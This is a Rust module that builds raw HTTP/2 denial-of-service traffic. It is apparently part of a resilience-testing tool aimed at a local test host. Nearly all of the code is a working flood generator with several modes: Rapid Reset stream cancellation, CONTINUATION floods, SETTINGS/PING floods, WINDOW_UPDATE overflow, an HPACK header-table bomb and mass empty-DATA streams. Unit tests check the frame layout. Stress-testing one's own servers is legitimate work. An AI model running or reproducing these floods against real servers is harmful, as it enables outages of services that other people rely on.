//! What floods of HTTP/2 are made of, byte by byte: no library would send it (RFC 9113 §4.1 and §6, RFC 7541 §6).

use super::modes::Mode;

/// How a connection begins (RFC 9113 §3.4), with SETTINGS that say nothing.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// About as much is written at once.
const BLOCK_BYTES: usize = 16 * 1024;
/// Requests that are held at once for data to come: fewer than a server usually allows.
const HELD: u32 = 100;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// One connection of a flood.
#[derive(Debug)]
pub(crate) struct Flood {
    mode: Mode,
    host: String,
    next_stream: u32,
}

impl Flood {
    /// `host` is that of the agent that requests are for, shorter than 127 bytes.
    pub(crate) fn new(mode: Mode, host: &str) -> Self {
        Self { mode, host: host.to_owned(), next_stream: 1 }
    }

    /// What is sent first.
    pub(crate) fn opening(&mut self) -> Vec<u8> {
        let mut bytes = PREFACE.to_vec();
        match self.mode {
            Mode::EmptyData => {
                for _ in 0..HELD {
                    let stream = self.stream();
                    let head = self.head("POST");
                    frame(&mut bytes, HEADERS, END_HEADERS, stream, &head);
                }
            }
            Mode::Continuation => {
                let stream = self.stream();
                let head = self.head("GET");
                frame(&mut bytes, HEADERS, 0, stream, &head);
            }
            _ => {}
        }
        bytes
    }

    /// What is sent after that, again and again, and how many frames that are.
    pub(crate) fn block(&mut self) -> (Vec<u8>, u64) {
        let mut block = Vec::with_capacity(BLOCK_BYTES + 1024);
        let mut frames = 0;
        while block.len() < BLOCK_BYTES {
            frames += self.step(&mut block);
        }
        (block, frames)
    }

    fn step(&mut self, block: &mut Vec<u8>) -> u64 {
        match self.mode {
            Mode::RapidReset => {
                let stream = self.request(block);
                frame(block, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                2
            }
            Mode::Continuation => {
                // A field of one byte, never indexed.
                frame(block, CONTINUATION, 0, 1, &[0x10, 1, b'x', 1, b'y']);
                1
            }
            Mode::SettingsPing => {
                frame(block, SETTINGS, 0, 0, &[]);
                frame(block, PING, 0, 0, &[7; 8]);
                2
            }
            Mode::MadeYouReset => {
                let stream = self.request(block);
                frame(block, DATA, 0, stream, b"late");
                2
            }
            Mode::WindowOverflow => {
                let stream = self.request(block);
                frame(block, WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
                2
            }
            Mode::HeaderBomb => {
                let stream = self.stream();
                let bomb = self.bomb(stream == 1);
                frame(block, HEADERS, END_STREAM | END_HEADERS, stream, &bomb);
                1
            }
            Mode::EmptyData => {
                for nth in 0..HELD {
                    frame(block, DATA, 0, 1 + 2 * nth, &[]);
                }
                HELD.into()
            }
            Mode::SlowHead | Mode::SlowBody | Mode::SlowRead | Mode::RangeHeader => {
                // No flood: a frame that means nothing (RFC 9113 §5.5).
                frame(block, 0xff, 0, 0, &[]);
                1
            }
        }
    }

    /// A whole request.
    fn request(&mut self, block: &mut Vec<u8>) -> u32 {
        let stream = self.stream();
        let head = self.head("GET");
        frame(block, HEADERS, END_STREAM | END_HEADERS, stream, &head);
        stream
    }

    fn stream(&mut self) -> u32 {
        let stream = self.next_stream;
        // Far beyond what a connection lives for.
        self.next_stream = stream.wrapping_add(2) & 0x7fff_ffff;
        stream
    }

    /// The fields of a request, none of which gets into the table of either side.
    fn head(&self, method: &str) -> Vec<u8> {
        // `:method` is 2 or 3, `:path: /` is 4, `:scheme: http` is 6, `:authority` is 1 (RFC 7541 Appendix A).
        let method = if method == "POST" { 0x83 } else { 0x82 };
        let mut head = vec![method, 0x84, 0x86, 0x01];
        string(&mut head, self.host.as_bytes());
        head
    }

    /// A request with a field of almost 4 KiB, which goes into the table with the first one, a thousand times.
    fn bomb(&self, first: bool) -> Vec<u8> {
        let mut head = self.head("GET");
        if first {
            // A literal that is indexed, with a name of its own.
            head.extend([0x40, 1, b'x']);
            string(&mut head, &[b'a'; 4000]);
        }
        // The newest of the table, which is field 62.
        head.extend([0xbe; 1000]);
        head
    }
}

/// RFC 9113 §4.1.
fn frame(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    into.extend(&length[1..]);
    into.extend([kind, flags]);
    into.extend(stream.to_be_bytes());
    into.extend(payload);
}

/// Without Huffman's code (RFC 7541 §5.1 and §5.2).
fn string(into: &mut Vec<u8>, text: &[u8]) {
    match text.len() {
        short @ 0..127 => into.push(u8::try_from(short).unwrap_or_default()),
        long => {
            into.push(127);
            let mut rest = long - 127;
            while rest >= 128 {
                into.push(0x80 | u8::try_from(rest % 128).unwrap_or_default());
                rest /= 128;
            }
            into.push(u8::try_from(rest).unwrap_or_default());
        }
    }
    into.extend(text);
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Kind, flags and stream of every frame; fails if the bytes are not whole frames.
    fn frames(mut bytes: &[u8]) -> Vec<(u8, u8, u32)> {
        let mut all = Vec::new();
        while !bytes.is_empty() {
            let length = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize;
            let stream = u32::from_be_bytes(bytes[5..9].try_into().unwrap());
            all.push((bytes[3], bytes[4], stream));
            bytes = &bytes[9 + length..];
        }
        all
    }

    #[test]
    fn every_flood_is_of_whole_frames_and_counts_them() {
        for mode in Mode::ALL {
            let mut flood = Flood::new(mode, "a.b.agents.localhost");
            let opening = flood.opening();
            assert!(opening.starts_with(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
            frames(&opening[24..]);
            for _ in 0..2 {
                let (block, count) = flood.block();
                assert_eq!(frames(&block).len() as u64, count, "{mode:?}");
                assert!(block.len() >= BLOCK_BYTES);
            }
        }
    }

    #[test]
    fn a_rapid_reset_takes_back_each_request_by_itself() {
        let (block, _) = Flood::new(Mode::RapidReset, "a").block();
        assert_eq!(
            frames(&block)[..4],
            [(HEADERS, 5, 1), (RST_STREAM, 0, 1), (HEADERS, 5, 3), (RST_STREAM, 0, 3)]
        );
    }

    #[test]
    fn lengths_of_strings_are_those_of_the_rfc() {
        // RFC 7541 Appendix C.1.2, with a prefix of seven bits.
        for (length, bytes) in [(10, &[10][..]), (127, &[127, 0]), (1337, &[127, 0xba, 0x09])] {
            let mut into = Vec::new();
            string(&mut into, &vec![b'x'; length]);
            assert_eq!(into[..into.len() - length], *bytes, "{length}");
        }
    }
}
